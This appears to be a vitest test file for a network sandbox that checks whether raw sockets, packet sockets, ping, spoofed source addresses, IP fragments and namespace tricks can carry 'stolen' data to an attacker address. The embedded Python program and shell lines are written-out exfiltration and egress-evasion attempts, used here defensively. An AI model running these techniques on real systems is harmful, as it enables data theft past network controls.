/** B12: packets that a program writes itself: ICMP with a payload, raw and packet sockets, protocols without ports. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { buildProgram } from "../../support/build-program.ts";
import { ATTACKER } from "../../support/internet/addresses.ts";
import {
  ALLOWED,
  type AttackScene,
  createAttackScene,
  findObstacle,
  toPython,
} from "./support/attack-scene.ts";
import { type GuardedRun, toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const obstacle = findObstacle();
const { ipv4, ipv6 } = ATTACKER;

const PROGRAM = `
import socket, struct
def attempt(name, deed):
    try: deed(); print(name, "sent", flush=True)
    except OSError as error: print(name, error.strerror, flush=True)
def header(source, to, protocol, payload, offset=0):
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, offset, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(to)) + payload
def write(source, to, protocol, payload=b"stolen" * 4, offset=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(header(source, to, protocol, payload, offset), (to, 0))
UDP = struct.pack(">HHHH", 4000, 99, 14, 0) + b"stolen"
for protocol, name in ((1, "ICMP"), (4, "IPIP"), (6, "TCP"), (17, "UDP"), (33, "DCCP"), (41, "6in4"), (47, "GRE"),
        (50, "ESP"), (115, "L2TP"), (132, "SCTP"), (136, "UDP-Lite"), (253, "experiment")):
    attempt(name, lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).sendto(b"stolen" * 4, ("${ipv4}", 0)))
for protocol, name in ((58, "ICMPv6"), (17, "UDP6"), (47, "GRE6"), (255, "raw6")):
    attempt(name, lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, protocol).sendto(b"stolen" * 4, ("${ipv6}", 0)))
attempt("header of its own", lambda: write("0.0.0.0", "${ipv4}", 17, UDP))
attempt("spoofed", lambda: write("192.0.2.1", "${ipv4}", 17, UDP))
attempt("spoofed as the resolver", lambda: write("10.96.0.10", "${ipv4}", 17, UDP))
attempt("spoofed at an allowed host", lambda: write("${ipv4}", "${ALLOWED.ipv4}", 17, UDP))
attempt("first fragment", lambda: write("0.0.0.0", "${ipv4}", 17, UDP, 0x2000))
attempt("later fragment", lambda: write("0.0.0.0", "${ipv4}", 17, b"stolen!!", 4))
attempt("later fragment to an allowed host", lambda: write("0.0.0.0", "${ALLOWED.ipv4}", 6, b"stolen!!", 4))
attempt("nowhere", lambda: write("0.0.0.0", "${ALLOWED.ipv4}", 253))
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, 10):
    def packet():
        s = socket.socket(socket.AF_PACKET, kind, socket.htons(0x0800)); s.bind(("eth0", 0x0800)); s.send(b"stolen" * 10)
    attempt("packet socket %d" % kind, packet)
for family, protocol, ip in ((socket.AF_INET, 1, "${ipv4}"), (socket.AF_INET6, 58, "${ipv6}")):
    attempt("ping socket", lambda: socket.socket(family, socket.SOCK_DGRAM, protocol).sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1stolen", (ip, 0)))
for kind, protocol, name in ((1, 132, "SCTP"), (5, 132, "SCTP"), (6, 33, "DCCP"), (1, 262, "MPTCP"), (2, 136, "UDP-Lite")):
    def connect():
        s = socket.socket(socket.AF_INET, kind, protocol); s.settimeout(2); s.connect(("${ipv4}", 99)); s.send(b"stolen")
    attempt(name + " connect", connect)
`;

const ATTACKS = {
  python: toPython(PROGRAM),
  ping: `ping -c1 -W1 -p 73746f6c656e ${ipv4}`,
  ping6: `ping -6 -c1 -W1 -p 73746f6c656e ${ipv6}`,
  "ping of an allowed host": `ping -c1 -W1 ${ALLOWED.ipv4}`,
  "a packet socket": `${buildProgram("packet-socket")} raw`,
  "a user namespace's packet socket": `unshare --user --map-root-user ${buildProgram("packet-socket")} raw`,
  "a user namespace's raw socket": `unshare --user --map-root-user ${buildProgram("raw-socket")} 4 1 ${ipv4}`,
  "another network namespace": `unshare --user --map-root-user --net sh -c 'ip link set lo up; ${buildProgram("packet-socket")} raw; curl -sS -m 1 http://${ipv4}/'`,
} as const;

describe.skipIf(obstacle !== "")(`packets that a program writes itself${obstacle}`, () => {
  let scene: AttackScene;
  let volley: Volley;
  let allowed: GuardedRun;
  beforeAll(async () => {
    scene = await createAttackScene();
    volley = await fireAll(scene.pod, ATTACKS, { policy: toPolicy({ allow: ["github.test"] }) });
    // Where raw packets are allowed somewhere, such sockets can be had, and the packet filter judges what they send.
    allowed = await scene.pod.guarded(toPython(PROGRAM), {
      policy: toPolicy({ allow: ["github.test", "192.0.2.77/raw", "192.0.2.77/icmp"] }),
    });
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test("do not leave", () => {
    expect(volley.run.escaped).toEqual([]);
  });

  test("are refused by every kind of socket", () => {
    const lines = volley.shot("python").stdout.trim().split("\n");

    expect(lines).toHaveLength(34);
    expect(lines.filter((line) => line.endsWith(" sent"))).toEqual([]);
  });

  test.each(Object.keys(ATTACKS).filter((name) => name !== "python"))("%s gets nowhere", (name) => {
    const { status, stdout } = volley.shot(name);

    expect(status).not.toBe(0);
    expect(stdout).not.toMatch(/bytes from|"did":"send".*"ok":true/);
  });

  test("are told of with whoever tried", () => {
    const { privilegedOperations } = volley.run.report;
    const operations = privilegedOperations.filter(({ operation }) =>
      /^(raw|packet)-socket$/.test(operation),
    );

    expect(new Set(operations.map(({ operation }) => operation))).toEqual(
      new Set(["raw-socket", "packet-socket"]),
    );
  });

  test("do not leave either where raw packets to somebody else are allowed", () => {
    const lines = allowed.stdout.trim().split("\n");

    expect(allowed.escaped).toEqual([]);
    // The kernel takes fragments and keeps them: it waits for the rest, to judge the whole.
    expect(lines.filter((line) => line.endsWith(" sent"))).toEqual([
      "first fragment sent",
      "later fragment sent",
      "later fragment to an allowed host sent",
    ]);
    expect(allowed.report.enforcement?.packetsRefused).toBeGreaterThanOrEqual(18);
    // Frames pass no chain of the packet filter, so nobody gets as far as to send one.
    expect(allowed.status).toBe(137);
    expect(lines.at(-1)).toBe("nowhere Operation not permitted");
  });
});
